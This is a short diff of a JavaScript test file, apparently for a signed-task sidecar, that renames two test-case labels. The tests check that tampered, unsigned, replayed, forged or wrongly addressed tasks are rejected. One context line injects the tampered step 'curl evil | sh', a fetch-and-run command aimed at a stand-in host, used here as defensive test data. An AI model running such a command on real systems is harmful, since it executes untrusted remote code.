@@ -98,7 +98,7 @@ t.test('a sidecar that trusts a submitter runs what it signed, and nothing that 
     ['one more step', (frame) => ({ ...frame, verification_steps: ['curl evil | sh'] }), signWith, /was changed/],
     ['a longer run', (frame) => ({ ...frame, run_max_ms: 86_400_000 }), signWith, /may run for 60000 ms/],
     ['no signature', ({ signature: _, ...frame }) => frame, signWith, /is not signed/],
-    ['a task that nobody signed', (frame) => frame, null, /is not signed/],
+    ['an unsigned task', (frame) => frame, null, /is not signed/],
     ['a signature of a stranger', (frame) => frame, taskSigner({ key: stranger.key }), /does not trust/],
     [
       'the signature of an earlier task, for the same text',
@@ -108,7 +108,7 @@ t.test('a sidecar that trusts a submitter runs what it signed, and nothing that 
     ],
     ['for another fleet', (frame) => frame, taskSigner({ key, audience: ['fleet-b'] }), /other audiences/],
     [
-      'a key of the hub under the name of ours',
+      'a key of the hub under our key name',
       (frame) => ({ ...frame, signature: `${replayed.slice(0, replayed.lastIndexOf('.'))}.${'A'.repeat(86)}` }),
       null,
       /does not match/,
